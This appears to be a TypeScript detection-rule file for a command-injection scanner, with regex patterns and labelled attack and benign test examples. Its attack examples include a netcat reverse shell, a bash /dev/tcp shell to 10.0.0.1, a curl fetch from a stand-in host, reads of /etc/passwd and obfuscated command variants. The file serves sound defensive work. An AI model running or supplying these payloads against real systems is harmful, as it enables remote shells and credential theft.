/** Command injection: shell and Windows commands appended to a value. Mostly in the view of a shell. */
import { Place } from '../place.ts';
import { type RuleDraft, rule, View } from '../rule.ts';

const command = (draft: Omit<RuleDraft, 'class'>) => rule({ ...draft, class: 'command-injection' });

/** Commands that are no words of a language: behind a separator, one is enough. */
const plainCommands =
  '(?:cat|ls|id|whoami|pwd|uname|wget|curl|nc|ncat|netcat|bash|zsh|ksh|dash|csh|sh|ping|ping6|nslookup|dig|ifconfig|ipconfig|netstat|telnet|chmod|chown|rm|mv|cp|tftp|ftp|scp|ssh|perl|python[23]?|ruby|php|node|lua|awk|gawk|sed|grep|egrep|xargs|base64|env|printenv|printf|echo|sleep|systeminfo|tasklist|powershell(?:\\.exe)?|cmd(?:\\.exe)?|dir|net|type|ver|hostname|ps|kill|crontab|useradd|adduser|passwd|tee|touch|mkfifo|mknod|socat|certutil|bitsadmin|wmic|reg|head|tail|tac|nl|od|xxd|strings|locate|whereis|df|du|mount|lsof|arp|hostnamectl|busybox|tar|zip|unzip|gzip|openssl|gcc|cc|vi|vim|nano|rev|sort|tr|wc|uptime|exec|eval|alias|nohup|timeout|sudo|su|su\\s-c|doas|mkdir|rmdir|rundll32|mshta|regsvr32|schtasks|cscript|wscript)';

/** Commands that are words nowhere. */
const rareCommands =
  '(?:whoami|uname|wget|curl|nslookup|ifconfig|ipconfig|netstat|chmod|chown|tftp|systeminfo|tasklist|powershell(?:\\.exe)?|cmd\\.exe|ncat|netcat|mkfifo|socat|certutil|bitsadmin|wmic|printenv|crontab|useradd|xxd|busybox|rundll32|mshta|regsvr32|schtasks|phpinfo)';

/**
 * What ends one command and begins another. A back-quote counts at the beginning of a value or behind another sign:
 * behind a blank it is how people set code in a text.
 */
const opener = '(?:[;|]|&&|^\\s*&|\\$\\(|(?:^|[=;|&(\'"])`)[ \\t]*';

/** Folders of programs. */
const bin = '(?:/usr)?(?:/local)?/s?bin/';

export const commandInjectionRules = [
  command({
    id: 'baseline.command-injection.separated-command',
    message: 'A shell separator with a command and its argument behind it',
    explanation:
      'A semicolon, pipe, ampersand, line end or back-quote, then a command with an option, a path, a variable, another separator or nothing behind it. In prose a semicolon is followed by words, in lists by names.',
    view: View.Shell,
    places: 511 - Place.Agent,
    patterns: [
      `${opener}\\(?\\s*(?:${bin})?(?:cat|ls|id|whoami|pwd|uname|wget|curl|ifconfig|ipconfig|netstat|ping|nslookup|dir|net|nc|sleep|phpinfo)\\s*(?:[;|&\`)>#]|\\\\n|\\x0a|$)`,
      `^.{0,40}[\\x0a\\x0d]\\s*(?:${bin})?(?:cat|ls|id|whoami|pwd|uname|${rareCommands})\\s*(?:$|[;|&]|\\s(?:-{1,2}[a-z0-9]|/[a-z]|https?:))`,
      '\\$\\(\\s*(?:sleep|ping)\\s+(?:-\\w\\s*)?\\d',
      `${opener}net\\s(?:users?|view|localgroup|share|use)\\b`,
      `(?:[;|&]|\\$\\(|^\`)[ \\t]*(?:${rareCommands})(?:\\s*(?:$|[;|&\`)>])|\\s+(?:-|/|https?:|[\\w.-]+\\.\\w))`,
      `(?:[;|&]|^[^\\n]{0,40}\\n)\\s*(?:sleep|ping)\\s+(?:-\\w\\s*)?\\d`,
      `(?:[;|&]|^[^\\n]{0,40}\\n)\\s*echo\\s[^;|&]*(?:\\$\\(|\`|>\\s*[\\w/.]|\\|\\s*\\w)`,
      `(?:[;|&]|^[^\\n]{0,40}\\n)\\s*(?:echo|printf)\\s*(?:\\$\\w|\\$\\()`,
    ],
    patternsOfCode: [
      `${opener}\\(?\\s*(?:${bin})?${plainCommands}\\s+(?:-{1,2}[a-z0-9]|/(?:[a-z?*]|$)|\\.{1,2}/|~/|\\$[a-z({]|[a-z]:[/\\\\]|https?:|>|<|\\d{1,3}\\.\\d)`,
    ],
    examples: {
      attacks: [
        '; cat /etc/hostname',
        '|id',
        'x && whoami',
        '`ls -la`',
        "a;w'h'oami",
        '127.0.0.1 | nc -e /bin/sh 10.0.0.1 4444',
        '$(curl http://host.example/x)',
        '||ping -c 10 127.0.0.1||',
      ],
      benign: [
        'cats; dogs; birds',
        'Smith & sort of',
        'price | name | weight',
        'R&D; id required',
        'a && b',
        'find | sort by date',
        'black; more colours',
        'one; date of birth',
      ],
    },
  }),
  command({
    id: 'baseline.command-injection.program-path',
    message: 'A program by its path, run as a command',
    explanation:
      'A path of a shell or program at the beginning of a value or behind a separator, or a sensitive file as the argument of a command.',
    view: View.Shell,
    patterns: [
      `(?:^|[;|&\`(]|\\\\n)\\s*${bin}(?:ba|z|k|da|c|tc)?sh\\b(?:\\s+-[ci]|\\s*$|\\s*[;|&])`,
      `(?:^|[;|&\`(\\x0a\\x0d]|\\\\n)\\s*${bin}(?:${plainCommands})\\b`,
      `[;|&]\\s*usr/bin/\\w`,
      '\\b(?:ba|z|k)?sh\\s+-i\\s*(?:>|&|<)',
      '/dev/(?:tcp|udp)/',
      '\\b(?:nc|ncat|netcat)\\s+(?:-[a-z]+\\s+)*[^;|]*-[a-z]*e\\s+\\S*(?:sh|cmd)\\b',
      '\\bmkfifo\\s+/tmp/',
      '\\bcmd(?:\\.exe)?\\s*/[ck]\\s',
      '\\bpowershell(?:\\.exe)?\\s+(?:-\\w+\\s+)*-(?:e|enc|encodedcommand|c|command|nop|w|ep|exec)\\b',
      '/[?*]{1,3}(?:[a-z]?[?*]+)/[?*]{0,3}[a-z?*]{1,6}\\s+/[?*a-z]+/[?*a-z]{3,}',
      '/etc/(?:passwd|shadow)\\s*(?:$|[;|&)"\'`])',
      'str\\s*=\\s*\\$\\(\\s*echo\\b',
      '\\[\\s*\\d+\\s+-ne\\s+\\$',
      '\\b(?:use\\s+socket;|socket\\s*\\(\\s*s\\s*,\\s*pf_inet)',
      `\\b(?:cat|tac|more|less|head|tail|nl|od|xxd|strings|vi|vim|nano|cp|grep|awk|sed|base64)\\s+[^;|&]{0,40}/(?:etc/(?:passwd|shadow|sudoers)|proc/self|root/\\.)`,
    ],
    patternsOfCode: [
      `\\b(?:cat|tac|more|less|head|tail|nl|od|xxd|strings|type|vi|vim|nano|cp|grep|awk|sed|base64)\\s+[^;|&]{0,40}/(?:etc/(?:passwd|shadow|group|hosts|issue|sudoers|hostname)|proc/(?:self|\\d|version)|root/\\.|var/log/\\w+/)`,
      '\\b(?:wget|curl)\\s+[^;|]*\\|\\s*(?:ba)?sh\\b',
      `\\b(?:wget|curl)\\s+[^;|&]*[;|&]\\s*(?:chmod|perl|python|sh|bash)\\b`,
    ],
    examples: {
      attacks: [
        '/bin/bash -c id',
        '; /usr/bin/id',
        'cat /etc/passwd',
        'bash -i >& /dev/tcp/10.0.0.1/99 0>&1',
        'cmd /c dir',
        "c\\at /e't'c/passwd",
      ],
      benign: [
        '/usr/bin',
        'the cat sat on /etc',
        'sh -- a quiet sound',
        'passwd file format',
        'cmd key / c key',
      ],
    },
  }),
  command({
    id: 'baseline.command-injection.whole-command',
    message: 'A value that is nothing but a command with options',
    explanation:
      'An argument that begins with a command and its options or system path and ends with it. Weak alone in texts, so only for whole values.',
    view: View.Shell,
    places: 511 - Place.Agent - Place.FileName,
    patterns: [
      '^\\s*(?:ls|dir)\\s+(?:-\\w+\\s+)*(?:-\\w+|/(?:etc|var|tmp|home|usr|root|bin)?\\b[\\w/*]*|/|[a-z]:\\S*(?:\\s\\S+){0,4})\\s*$',
      '^\\s*(?:ls|dir)\\s+-\\w+\\s+/[\\w/*]*\\s*$',
      '^\\s*(?:ifconfig|ipconfig|netstat)(?:\\s+[-/]\\w+)+\\s*[;|&]?$',
      '^\\s*(?:id|whoami|uname\\s+-a)\\s*[;|&]',
      '^\\s*nc\\s+-\\w+',
      '^.{0,10}[|;&]\\s*dir\\s*(?:$|[a-z]:)',
      '^.{0,10}[|;&]\\s*(?:net\\s(?:view|users?)|netstat|ipconfig|ifconfig)\\b',
      '^[\\w)]{0,10}[;|&\\x0a]+(?:/usr/bin/)?n?id(?:\\\\?n|[;|&\\s]|$)',
      '^\\s*\\\\?n(?:/usr/bin/|/bin/)?(?:id|ls)\\b[^a-z]',
      '\\becho\\s*\\$?\\w{0,12}\\s*\\$\\(\\(',
      '\\$\\(\\(\\s*\\d+\\s*[-+*]\\s*\\d+\\s*\\)\\)',
      '\\$\\(\\s*echo\\b',
      '\\becho\\s+[^;|]{0,20}\\$\\(\\s*(?:rm|cat|ls|id)\\b',
      '<!--\\s*#\\s*(?:exec|include|echo|config|printenv)\\b',
    ],
    patternsOfCode: [
      '(?:^|[^\\s`(\\[])\\s?`[ \\t]*(?:echo|id|ls|cat|curl|wget|ping|whoami|uname|sleep|/usr/bin/\\w+)(?:\\s[^`]+)?`',
    ],
    examples: {
      attacks: [
        'ls -la /etc',
        'dir C:\\',
        'ipconfig /all',
        'echo ABC$((1+2))$(echo ABC)ABC',
        '<!--#exec cmd="id"-->',
      ],
      benign: ['ls', 'dir', 'id', 'netstat tutorial', 'ls 400 Lexus', 'nc', 'echo dot'],
    },
  }),
];
